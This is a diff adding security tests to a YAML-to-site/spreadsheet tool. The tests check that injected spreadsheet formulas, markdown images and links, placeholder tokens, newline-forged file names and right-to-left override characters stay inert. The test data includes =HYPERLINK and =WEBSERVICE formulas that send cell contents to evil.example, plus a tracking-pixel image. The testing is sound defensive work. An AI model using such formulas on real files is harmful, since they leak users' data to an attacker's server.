@@ -508,3 +508,105 @@ def test_incremental_build_rebuilds_the_office_a_plan_names_not_the_folder_it_si
     assert other in result.output.split("rebuilding", 1)[1].splitlines()[0]
     page = (site / "offices" / other / "2023-24" / "cc" / "index.html").read_text(encoding="utf-8")
     assert "অন্য-ফোল্ডার" in page
+
+
+# --------------------------------------------------------------------------- injection
+
+
+NIS = f"{ITNA}/2023-24/nis.yaml"
+
+
+def _replace_first(path: Path, key: str, value: str) -> None:
+    """Give the first `key:` of a plan file a new (YAML-quoted) value."""
+    import json
+    import re
+
+    text = path.read_text(encoding="utf-8")
+    new, count = re.subn(rf"(\n\s*{key}: )[^\n]*", lambda m: m.group(1) + json.dumps(value, ensure_ascii=False), text,
+                         count=1)
+    assert count == 1, key
+    path.write_text(new, encoding="utf-8")
+
+
+@pytest.mark.parametrize("sheet", ["plan", "progress"])
+def test_xlsx_template_writes_plan_text_starting_with_equals_as_text_not_a_formula(plans_copy, tmp_path, check, sheet):
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    hyperlink = '=HYPERLINK("http://evil.example/?"&B2,"open")'
+    webservice = '=WEBSERVICE("http://evil.example/"&B2)'
+    _replace_first(plans_copy / NIS, "name", hyperlink)
+    _replace_first(plans_copy / NIS, "activity", webservice)
+    assert check(plans_copy)[0] == 0  # a pull request can do this
+    book = tmp_path / "nis.xlsx"
+    result = _cli("xlsx-template", str(book), "--office", ITNA, "--document", "nis", "--sheet", sheet,
+                  "--plans", str(plans_copy))
+    assert result.exit_code == 0, result.output
+    with zipfile.ZipFile(book) as archive:
+        xml = {name: archive.read(name).decode("utf-8") for name in archive.namelist() if name.endswith(".xml")}
+    assert not any("<f>" in text or "<f " in text for text in xml.values())
+    assert 'fullCalcOnLoad="1"' not in xml["xl/workbook.xml"]
+    cells = [c for ws in load_workbook(book) for row in ws.iter_rows() for c in row if c.value is not None]
+    assert {hyperlink, webservice} <= {c.value for c in cells}
+    assert all(c.data_type != "f" for c in cells)
+    assert all(c.quotePrefix for c in cells if c.value in (hyperlink, webservice))
+
+
+def test_yaml_key_with_a_markdown_image_is_text_in_the_github_job_summary(plans_copy, tmp_path, monkeypatch):
+    import markdown
+
+    plan = plans_copy / NIS
+    plan.write_text(plan.read_text(encoding="utf-8") + '"![x](https://evil.example/pixel.png)": 1\n'
+                    '"[click](https://evil.example/) `code` <img src=x> | *b*": 2\n', encoding="utf-8")
+    (plans_copy / ITNA / "2023-24" / "a`b|![i](evil.png).yaml").write_text("kind: [\n",
+                                                                                           encoding="utf-8")
+    summary = tmp_path / "summary.md"
+    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
+    result = _cli("check", str(plans_copy), "--format", "github")
+    assert result.exit_code == 1
+    text = summary.read_text(encoding="utf-8")
+    html = markdown.markdown(text, extensions=["tables"])
+    assert "<img" not in html and "<a " not in html and "<em>" not in html
+    assert html.count("<tr>") == text.count("\n| ") - 0  # one row per problem: no cell broke the table
+    assert "![x](https://evil.example/pixel.png)" in html  # shown as typed
+
+
+def test_plan_text_with_the_raw_html_placeholder_token_stays_text(plans_copy, tmp_path):
+    import markdown
+
+    from sebabox.site import rawhtml
+
+    source = "<div>\n<p>block one</p>\n</div>\n\nSBRAW000000Z\n\n" + rawhtml.TOKEN.replace(rawhtml.NONCE, "0" * 16).format(5)
+    stashed, blocks = rawhtml.stash(source)
+    html = rawhtml.restore(markdown.markdown(stashed), blocks)
+    assert html.count("block one") == 1 and "SBRAW000000Z" in html
+    for guess in ("SBRAW000000Z", "SBRAW000009Z"):  # as a title, a whole paragraph of a built page
+        plan = plans_copy / NIS
+        _replace_first(plan, "title", guess)
+        site = tmp_path / guess / "site"
+        result = _build_cli(plans_copy, site)
+        assert result.exit_code == 0, result.output
+        page = (site / "offices" / ITNA / "2023-24" / "nis" / "index.html").read_text(encoding="utf-8")
+        assert guess in page
+
+
+def test_file_name_with_a_line_break_cannot_forge_a_path_line_error_line(plans_copy, check):
+    forged = "x\nforged.yaml:1: error: this line is forged\n.yaml"
+    (plans_copy / ITNA / forged).write_text("kind: [\n", encoding="utf-8")
+    code, output = check(plans_copy)
+    assert code == 1
+    assert not any(line.startswith("forged.yaml:1:") for line in output.splitlines())
+    assert f"{plans_copy / ITNA}/x\\nforged.yaml:1: error: this line is forged\\n.yaml:" in output
+
+
+@pytest.mark.parametrize("where", ["name", "title"])
+def test_unbalanced_right_to_left_override_in_a_name_is_a_located_error(plans_copy, check, where):
+    path = plans_copy / (f"{ITNA}/office.yaml" if where == "name" else NIS)
+    _replace_first(path, where, "উপজেলা \u202eসমবায় কার্যালয়")
+    code, output = check(plans_copy)
+    assert code == 1
+    assert "error: text has an unbalanced direction control U+202E" in output
+    assert f"{path}:" in output
+    _replace_first(path, where, "উপজেলা \u202eসমবায়\u202c কার্যালয়")  # closed: allowed, it stays inside the value
+    assert check(plans_copy)[0] == 0
